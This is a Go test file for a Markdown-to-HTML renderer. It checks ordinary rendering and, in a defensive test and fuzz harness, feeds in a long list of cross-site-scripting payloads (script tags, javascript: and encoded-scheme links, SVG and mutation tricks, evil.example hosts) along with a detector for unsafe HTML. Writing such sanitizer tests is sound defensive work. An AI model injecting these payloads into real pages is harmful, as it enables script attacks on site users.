package markdown

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func TestRenderKeepsMarkdown(t *testing.T) {
	t.Parallel()
	r := New()
	for _, tc := range []struct{ name, in, want string }{
		{"heading with id", "# Hello *world*", `<h1 id="hello-world">Hello <em>world</em></h1>`},
		{"https link gets nofollow", "[site](https://example.org/a?b=1)", `<a href="https://example.org/a?b=1" rel="nofollow">site</a>`},
		{"relative link", "[post](/blog/other)", `<a href="/blog/other" rel="nofollow">post</a>`},
		{"mailto", "[mail](mailto:a@example.org)", `href="mailto:a@example.org"`},
		{"code block keeps language", "```go\nfmt.Println(1 < 2)\n```", `<pre><code class="language-go">fmt.Println(1 &lt; 2)`},
		{"table", "| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"},
		{"strikethrough", "~~old~~", "<del>old</del>"},
		{"task list", "- [x] done", `<input checked="" disabled="" type="checkbox"`},
		{"image", "![alt text](https://img.example.org/a.png)", `<img src="https://img.example.org/a.png" alt="alt text">`},
		{"png data URL image", "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)", `src="data:image/png;base64,iVBOR`},
		{"autolink", "see https://example.org", `<a href="https://example.org" rel="nofollow">https://example.org</a>`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := r.Render(tc.in); !strings.Contains(got, tc.want) {
				t.Errorf("Render(%q) = %q, want it to contain %q", tc.in, got, tc.want)
			}
		})
	}
}

// xssPayloads are known attacks written the ways an author (or a compromised account) might: as
// raw HTML, which goldmark drops, and as Markdown links and images, whose URLs both goldmark and
// the sanitizer must refuse.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	"text <script>alert(1)</script> inline",
	`<img src=x onerror=alert(1)>`,
	`<img src="x" ONERROR="alert(1)">`,
	"inline <img src=x onerror=alert(1)> html",
	`<a href="javascript:alert(1)">x</a>`,
	`[click](javascript:alert(1))`,
	`[click](JaVaScRiPt:alert(1))`,
	`[click](&#106;avascript:alert(1))`,
	`[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))`,
	`[click](javascript&colon;alert(1))`,
	"[click](java\tscript:alert(1))",
	`[click](<javascript:alert(1)>)`,
	`[click]( javascript:alert(1) )`,
	`[click](vbscript:msgbox(1))`,
	`[ref][r]` + "\n\n" + `[r]: javascript:alert(1)`,
	`<javascript:alert(1)>`,
	`![x](javascript:alert(1))`,
	`![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`<iframe src="https://evil.example"></iframe>`,
	`<svg onload=alert(1)><circle/></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<p style="width: expression(alert(1))">x</p>`,
	`<object data="evil.swf"></object><embed src="evil.swf">`,
	`<form action="https://evil.example"><input name=x></form>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	"```\n</code></pre><script>alert(1)</script>\n```",
	`![x"onerror="alert(1)](https://x.example/a.png)`,
	`[x](https://x.example/"onmouseover="alert(1))`,
}

func TestRenderRemovesXSS(t *testing.T) {
	t.Parallel()
	r := New()
	for _, p := range xssPayloads {
		out := r.Render(p)
		if bad := unsafeHTML(out); bad != "" {
			t.Errorf("Render(%q) = %q: %s", p, out, bad)
		}
		low := strings.ToLower(out)
		// Blunt substring checks on top of the parse: these must not appear as markup at all
		// (the same words in escaped text or inside a percent-encoded URL are harmless).
		for _, s := range []string{"<script", "<iframe", "<svg", "<object", "<embed", "<form", "<meta", "<base", "<style",
			" onerror=", " onload=", " ontoggle=", " style=", "expression(", "data:text", "data:image/svg"} {
			if strings.Contains(low, s) {
				t.Errorf("Render(%q) = %q contains %q", p, out, s)
			}
		}
	}
}

var allowedSchemes = map[string]bool{"": true, "http": true, "https": true, "mailto": true}

// unsafeHTML parses out and names the first thing in it that could run script: an element
// outside the safe set, an on* or style attribute, or a URL attribute with another scheme.
func unsafeHTML(out string) string {
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "style", "iframe", "frame", "object", "embed", "svg", "math", "form", "meta", "base", "link", "frameset", "template":
				return "element " + tok.Data
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				isURL := key == "href" || key == "src" || key == "action" || key == "background" || key == "cite" || key == "poster"
				// A URL attribute is judged by its scheme below ("#javascript:" is a fragment);
				// any other attribute must not name a script scheme at all (srcset, say).
				if v := strings.ToLower(a.Val); !isURL && (strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:")) {
					return "script URL in " + key
				}
				if strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" || key == "formaction" {
					return "attribute " + key
				}
				if isURL {
					u, err := url.Parse(strings.TrimSpace(a.Val))
					if err != nil {
						return "unparseable URL " + a.Val
					}
					scheme := strings.ToLower(u.Scheme)
					if scheme == "data" && key == "src" && tok.Data == "img" && isRasterDataURL(a.Val) {
						continue
					}
					if !allowedSchemes[scheme] {
						return "URL scheme " + scheme
					}
				}
			}
		}
	}
}

func isRasterDataURL(v string) bool {
	for _, p := range []string{"data:image/png;base64,", "data:image/jpeg;base64,", "data:image/gif;base64,", "data:image/webp;base64,"} {
		if strings.HasPrefix(v, p) {
			return true
		}
	}
	return false
}

// FuzzRender checks that no input yields HTML that could run script.
func FuzzRender(f *testing.F) {
	for _, p := range xssPayloads {
		f.Add(p)
	}
	f.Add("# title\n\n[a](https://x.org) ![b](/img.png) `code` **bold**")
	r := New()
	f.Fuzz(func(t *testing.T, src string) {
		out := r.Render(src)
		if bad := unsafeHTML(out); bad != "" {
			t.Fatalf("Render(%q) = %q: %s", src, out, bad)
		}
	})
}

// Images the caller knows become responsive (srcset of their copies and the original, sizes,
// width, height, lazy loading); others are left as they are, and a srcset the caller got wrong
// (a URL that is not http(s) or root-relative) never survives the sanitizer.
func TestRenderWithImages(t *testing.T) {
	t.Parallel()
	r := New()
	const src = "![A cat](https://site.example/media/cat.png)\n\n![Elsewhere](https://img.example.org/x.png)\n\n![Again](https://site.example/media/cat.png)"
	var asked []string
	got := r.RenderWithImages(src, func(urls []string) map[string]Image {
		asked = urls
		return map[string]Image{"https://site.example/media/cat.png": {Width: 1600, Height: 1200, Variants: []Variant{
			{Width: 320, URL: "https://site.example/media/cat-w320.jpg"}, {Width: 640, URL: "https://site.example/media/cat-w640.jpg"}}}}
	})
	if strings.Join(asked, " ") != "https://site.example/media/cat.png https://img.example.org/x.png" {
		t.Errorf("asked about %q, want each image address once", asked)
	}
	want := `srcset="https://site.example/media/cat-w320.jpg 320w, https://site.example/media/cat-w640.jpg 640w, https://site.example/media/cat.png 1600w" sizes="` +
		ImageSizes + `" width="1600" height="1200" loading="lazy" decoding="async">`
	if strings.Count(got, want) != 2 {
		t.Errorf("known image: got\n%s\nwant twice\n%s", got, want)
	}
	if !strings.Contains(got, `<img src="https://site.example/media/cat.png" alt="A cat" srcset=`) {
		t.Errorf("known image lost its src or alt: %s", got)
	}
	if !strings.Contains(got, `<img src="https://img.example.org/x.png" alt="Elsewhere">`) {
		t.Errorf("unknown image changed: %s", got)
	}
	if plain := r.Render(src); strings.Contains(plain, "srcset") {
		t.Errorf("Render added a srcset: %s", plain)
	}

	hostile := r.RenderWithImages("![x](/media/a.png)", func([]string) map[string]Image {
		return map[string]Image{"/media/a.png": {Width: 900, Height: 600, Variants: []Variant{{Width: 320, URL: "javascript:alert(1)"}}}}
	})
	if strings.Contains(hostile, "javascript") || strings.Contains(hostile, "srcset") {
		t.Errorf("a hostile variant URL survived: %s", hostile)
	}
	if !strings.Contains(hostile, `width="900" height="600"`) {
		t.Errorf("the size of a known image is lost: %s", hostile)
	}
}
